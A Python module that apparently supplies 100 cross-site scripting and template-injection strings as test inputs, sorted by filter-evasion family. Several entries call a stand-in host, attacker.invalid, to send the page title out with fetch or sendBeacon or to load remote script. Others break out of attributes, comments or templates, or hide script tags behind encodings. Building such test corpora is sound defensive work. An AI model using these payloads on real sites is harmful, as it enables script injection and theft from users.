"""A hundred texts that would run script or ask a server for something if a page took any of them for markup.

Families after the OWASP cheat sheet on filter evasion: event handlers, plain tags, addresses, breaking out of
an attribute, a style, a comment or a template, encodings, other vocabularies. Each one that runs would open a
dialog, set `window.hit`, or ask `attacker.invalid`.
"""

HOST = "//attacker.invalid"
RUN = "alert(1);window.hit=1"

_HANDLERS = [
    f"<{tag} {event}={RUN}>"
    for tag, event in (
        ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"), ("img src=x", "onerror"),
        ("img src=data:,", "onload"), ("svg", "onload"), ("svg/onload", "onload"), ("video src=x", "onerror"),
        ("audio src=x", "onerror"), ("video><source", "onerror"), ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("details open", "ontoggle"),
        ("marquee", "onstart"), ("div style=animation-name:x", "onanimationstart"),
        ("a href=# id=x", "onfocus"),
        ("button autofocus", "onfocus"), ("iframe srcdoc=x", "onload"), ("object data=x", "onerror"),
        ("embed src=x", "onload"), ("link rel=stylesheet href=x", "onerror"), ("style", "onload"),
        ("script src=x", "onerror"), ("table background=x", "onmouseover"),
        ("x contenteditable", "onbeforeinput"),
        ("form", "onformdata"), ("dialog open", "onclose"), ("p draggable=true", "ondragstart"),
        ("track default src=x", "onerror"),
    )
]  # fmt: skip
_TAGS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={HOST}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<script>fetch('https:{HOST}/'+document.title)</script>",
    f"<script>new Image().src='https:{HOST}/i'</script>",
    f"<script>navigator.sendBeacon('https:{HOST}/b')</script>",
    f"<img src=https:{HOST}/pixel.png>",
    f"<img srcset='https:{HOST}/a.png 1x'>",
    f"<iframe src=https:{HOST}/></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    f"<object data=https:{HOST}/x.swf></object>",
    f"<embed src=https:{HOST}/x.svg>",
    f"<link rel=stylesheet href=https:{HOST}/x.css>",
    f"<link rel=prefetch href=https:{HOST}/p>",
    f"<style>@import 'https:{HOST}/x.css';</style>",
    f"<style>body{{background:url(https:{HOST}/b)}}</style>",
    f"<base href=https:{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=https:{HOST}/'>",
    f"<form action=https:{HOST}/><button autofocus>x",
    f"<video src=https:{HOST}/v.mp4 autoplay>",
    f"<audio src=https:{HOST}/a.mp3 autoplay>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><image href=https:{HOST}/i.png></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><img src=x onerror={RUN}></noscript>",
]
_ADDRESSES = [
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java&#115;cript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f"[x](javascript:{RUN})",
    f"![x](https:{HOST}/i.png)",
    f"javascript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
]
_BREAKING_OUT = [
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f'" autofocus onfocus={RUN} "',
    f"`onerror={RUN}`",
    f"</pre><script>{RUN}</script><pre>",
    f"</option></select><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</code></td></tr></table><script>{RUN}</script>",
    f"</summary></details><img src=x onerror={RUN}>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"*/{RUN}/*",
    f'\\"-{RUN}//',
    "${alert(1)}",
    "{{ 7*7 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in [1] %}<script>alert(1)</script>{% endfor %}",
    "{# comment #}<script>alert(1)</script>",
]
_ENCODED = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"\ufeff<script>{RUN}</script>",
]
PAYLOADS = tuple(_HANDLERS + _TAGS + _ADDRESSES + _BREAKING_OUT + _ENCODED)
